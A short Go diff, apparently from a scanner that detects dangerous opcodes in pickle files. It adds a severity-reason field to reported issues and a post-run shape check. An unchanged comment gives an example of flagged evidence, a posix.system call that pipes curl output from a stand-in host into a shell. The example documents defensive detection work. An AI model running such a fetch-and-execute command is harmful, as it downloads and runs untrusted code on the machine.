@@ -37,6 +37,9 @@ type Issue struct {
 	Offset   int64         // byte offset of the opcode, relative to the start of the reader given to Scan
 	Evidence string        // e.g. "posix.system('curl http://x | sh')"
 	Message  string        // one sentence
+	// SeverityReason says why Severity differs from what the class alone
+	// gives (an unknown global rebuilt as a custom class, or called with data).
+	SeverityReason string
 }
 
 // Profile names a framework's allowlist.
@@ -86,5 +89,6 @@ func Scan(ctx context.Context, r io.Reader, opts Options) *Result {
 	}
 	m := newMachine(ctx, r, opts)
 	m.run()
+	m.finishShapes()
 	return m.res
 }
